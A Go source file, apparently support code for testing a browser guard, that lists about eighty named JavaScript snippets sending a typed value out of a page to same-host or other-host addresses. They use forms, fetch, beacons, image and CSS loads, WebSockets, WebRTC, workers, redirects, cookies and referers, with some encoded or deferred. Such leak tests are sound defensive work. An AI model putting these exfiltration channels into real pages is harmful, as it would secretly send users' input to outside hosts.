package browser

// channels are the ways in which what was typed can leave a page. Each runs
// with the value in v; to(name) is an address of the same host and away(name)
// one of another. What arrives there is counted, and so is the value wherever
// it stands in the bytes that arrive.
var channels = map[string]string{
	"form-post":            `const f = form("post", to, v); f.submit()`,
	"form-get":             `const f = form("get", to, v); f.submit()`,
	"form-button":          `const f = form("post", to, v); const b = document.createElement("button"); f.append(b); b.click()`,
	"form-blank":           `const f = form("post", to, v); f.target = "_blank"; f.submit()`,
	"form-blank-get":       `const f = form("get", to, v); f.target = "_blank"; f.rel = "noopener"; f.submit()`,
	"form-in-frame":        `frame("<form method=post action='" + to + "'><input name=q value='" + v + "'></form>").onload = e => e.target.contentDocument.forms[0].submit()`,
	"fetch-post":           `fetch(to, {method: "POST", body: v})`,
	"fetch-get":            `fetch(to + "?q=" + encodeURIComponent(v))`,
	"fetch-header":         `fetch(to, {headers: {"X-Value": v}})`,
	"fetch-keepalive":      `addEventListener("pagehide", () => fetch(to + "?q=" + v, {keepalive: true, method: "POST", body: v}))`,
	"fetch-keepalive-get":  `addEventListener("pagehide", () => fetch(to + "?q=" + v, {keepalive: true}))`,
	"xhr":                  `const x = new XMLHttpRequest(); x.open("POST", to); x.send(v)`,
	"xhr-get":              `const x = new XMLHttpRequest(); x.open("GET", to + "?" + v); x.send()`,
	"beacon":               `navigator.sendBeacon(to, v)`,
	"ping":                 `document.body.insertAdjacentHTML("beforeend", "<a id=pa href='#x' ping='" + to + "?q=" + v + "'>x</a>"); pa.click()`,
	"image":                `new Image().src = away + "?q=" + v`,
	"image-srcset":         `new Image().srcset = to + "?q=" + v + " 2x"`,
	"script":               `const s = document.createElement("script"); s.src = away + "?q=" + v; document.body.append(s)`,
	"css-url":              `style("body {background: url('" + to + "?q=" + v + "')}")`,
	"css-import":           `style("@import '" + to + "?q=" + v + "';")`,
	"font":                 `new FontFace("x", "url('" + to + "?q=" + v + "')").load()`,
	"svg-use":              `document.body.insertAdjacentHTML("beforeend", "<svg><image href='" + to + "?q=" + v + "'/></svg>")`,
	"video":                `document.createElement("video").src = to + "?q=" + v`,
	"websocket":            `const w = new WebSocket(ws + "?q=" + v); w.onopen = () => w.send(v)`,
	"websocket-in-frame":   `code("const w = new WebSocket('" + ws + "?q=" + v + "')")`,
	"websocket-in-worker":  `work("const w = new WebSocket('" + ws + "?q=" + v + "')")`,
	"websocket-in-shared":  `share("const w = new WebSocket('" + ws + "?q=" + v + "')")`,
	"websocket-in-cross":   `cross("new WebSocket('" + ws + "?q=" + v + "')")`,
	"eventsource":          `new EventSource(to + "?q=" + v)`,
	"webtransport":         `new WebTransport("https://{quic}/?q=" + v).ready.catch(() => 0)`,
	"webtransport-worker":  `work("new WebTransport('https://{quic2}/?q=" + v + "').ready.catch(() => 0)")`,
	"webtransport-shared":  `share("new WebTransport('https://{quic3}/?q=" + v + "').ready.catch(() => 0)")`,
	"webtransport-cross":   `cross("new WebTransport('https://{quic4}/?q=" + v + "').ready.catch(() => 0)")`,
	"webrtc-turn-cross":    `cross("(" + rtc + ")('turn:{turn2}?transport=tcp', '" + v + "')")`,
	"webrtc":               `rtc("stun:{stun}", v)`,
	"webrtc-turn":          `rtc("turn:{turn}?transport=tcp", v)`,
	"webrtc-in-cross":      `cross("(" + rtc + ")('stun:{stun2}', '" + v + "')")`,
	"worker":               `work("fetch('" + to + "?q=" + v + "')")`,
	"worker-post":          `work("fetch('" + to + "', {method: 'POST', body: '" + v + "'})")`,
	"worker-base64":        `work("fetch('" + to + "?q=' + btoa('" + v + "'))")`,
	"worker-nested":        `work("new Worker(URL.createObjectURL(new Blob([\"fetch('" + to + "?q=" + v + "')\"])))")`,
	"shared-worker":        `share("fetch('" + to + "?q=" + v + "')")`,
	"service-worker":       `navigator.serviceWorker.register("/sw.js?q=" + v)`,
	"service-worker-late":  `navigator.serviceWorker.register("/sw.js").then(() => navigator.serviceWorker.ready).then(r => r.active.postMessage(to + "?q=" + v))`,
	"iframe":               `const i = document.createElement("iframe"); i.src = to + "?q=" + v; document.body.append(i)`,
	"iframe-cross":         `const i = document.createElement("iframe"); i.src = away + "?q=" + v; document.body.append(i)`,
	"cross-posts":          `cross("fetch('" + away + "', {method: 'POST', body: '" + v + "'})")`,
	"cross-gets":           `cross("fetch('" + away + "?q=" + v + "')")`,
	"cross-navigates":      `cross("location = '" + away + "?q=" + v + "'")`,
	"popup":                `open(to + "?q=" + v)`,
	"popup-noopener":       `open(to + "?q=" + v, "_blank", "noopener")`,
	"popup-cross":          `open(away + "?q=" + v)`,
	"popup-name":           `open("/relay?to=" + to, v)`,
	"location":             `location = to + "?q=" + v`,
	"location-path":        `location = to + "/" + v`,
	"location-base64":      `location = to + "?q=" + btoa(JSON.stringify({m: v}))`,
	"location-base64url":   `location = to + "?q=" + btoa("x" + v).replace(/\+/g, "-").replace(/\//g, "_").replace(/=/g, "")`,
	"location-hex":         `location = to + "?q=" + [...v].map(c => c.charCodeAt(0).toString(16)).join("")`,
	"location-twice":       `location = to + "?q=" + encodeURIComponent(encodeURIComponent(v))`,
	"location-json":        `location = to + "?q=" + encodeURIComponent('{"m":"' + [...v].map(c => "\\u" + c.charCodeAt(0).toString(16).padStart(4, "0")).join("") + '"}')`,
	"image-sum":            `crypto.subtle.digest("SHA-256", new TextEncoder().encode(v)).then(d => new Image().src = to + "?em=" + [...new Uint8Array(d)].map(b => b.toString(16).padStart(2, "0")).join(""))`,
	"meta-refresh":         `document.head.insertAdjacentHTML("beforeend", "<meta http-equiv=refresh content=\"0;url=" + to + "?q=" + v + "\">")`,
	"prefetch":             `link("prefetch", to + "?q=" + v)`,
	"preload":              `link("preload", to + "?q=" + v)`,
	"modulepreload":        `link("modulepreload", to + "?q=" + v)`,
	"stylesheet":           `link("stylesheet", to + "?q=" + v)`,
	"prerender":            `link("prerender", to + "?q=" + v)`,
	"speculation":          `const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({prefetch: [{source: "list", urls: [to + "?q=" + v], eagerness: "immediate"}]}); document.body.append(s)`,
	"speculation-render":   `const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({prerender: [{source: "list", urls: [to + "?q=" + v], eagerness: "immediate"}]}); document.body.append(s)`,
	"cookie":               `document.cookie = "m=" + v + ";path=/"; new Image().src = "/plain"`,
	"cookie-store":         `if (self.cookieStore) cookieStore.set("m", v).then(() => fetch("/plain")); else fetch("/plain")`,
	"cookie-then-location": `document.cookie = "m=" + btoa(v) + ";path=/"; location = "/plain"`,
	"cookie-in-frame":      `code("document.cookie = 'm=" + v + ";path=/'; fetch('/plain')")`,
	"referer":              `history.pushState(0, "", "/state?q=" + v); new Image().src = "/plain"`,
	"referer-location":     `history.pushState(0, "", "/state/" + v); location = "/plain"`,
	"csp-report":           `new Image().src = "http://127.0.0.1:1/" + v`,
	"timer":                `setTimeout(() => fetch(to + "?q=" + v), 1500)`,
	"storage-then-page":    `localStorage.v = v; location = "/relay?to=" + to`,
	"window-name":          `window.name = v; location = "/relay?to=" + to`,
}

// harmlessForms are pages that send nothing that was typed.
var harmlessForms = map[string]string{
	"empty-form":  `const f = document.createElement("form"); f.method = "post"; f.action = to; f.innerHTML = "<input name=q>"; document.body.append(f); f.submit()`,
	"empty-fetch": `fetch(to, {method: "POST", body: "q="})`,
	"empty-away":  `fetch(away, {method: "POST", mode: "no-cors", body: "q="})`,
	"delete":      `fetch(to, {method: "DELETE"})`,
	"file-form":   `const f = form("post", to, ""); f.enctype = "multipart/form-data"; const i = document.createElement("input"); i.type = "file"; i.name = "a"; const d = new DataTransfer(); d.items.add(new File(["abc"], "a.txt")); i.files = d.files; f.append(i); f.submit()`,
	"stream":      `fetch(to, {method: "POST", duplex: "half", body: new ReadableStream({start(c) { c.enqueue(new TextEncoder().encode("q=")); c.close() }})})`,
}

// unguardedSilent are channels that Chrome itself keeps shut as we run it, or
// that nothing can be made to arrive on without a certificate.
var unguardedSilent = []string{"ping", "prerender", "preload", "modulepreload", "video"}

const channelScript = `
const form = (method, to, v) => { const f = document.createElement("form"); f.method = method; f.action = to; f.innerHTML = "<input name=q>"; f.firstChild.value = v; document.body.append(f); return f };
const frame = html => { const i = document.createElement("iframe"); i.srcdoc = html; document.body.append(i); return i };
const code = text => frame("<script>" + text + "<\/script>");
const style = text => { const s = document.createElement("style"); s.textContent = text; document.head.append(s) };
const link = (rel, href) => { const l = document.createElement("link"); l.rel = rel; l.href = href; l.as = "script"; document.head.append(l) };
const blob = text => URL.createObjectURL(new Blob([text]));
const work = text => window.kept = new Worker(blob(text));
const share = text => window.kept = new SharedWorker(blob(text));
const cross = text => { const i = document.createElement("iframe"); i.src = "{other}/runs"; i.onload = () => i.contentWindow.postMessage(text, "*"); document.body.append(i) };
function rtc(server, v) { const c = new RTCPeerConnection({iceServers: [{urls: server, username: v, credential: "x"}]}); c.createDataChannel("x"); c.createOffer().then(o => c.setLocalDescription(o)); globalThis.keptPeer = c }
`
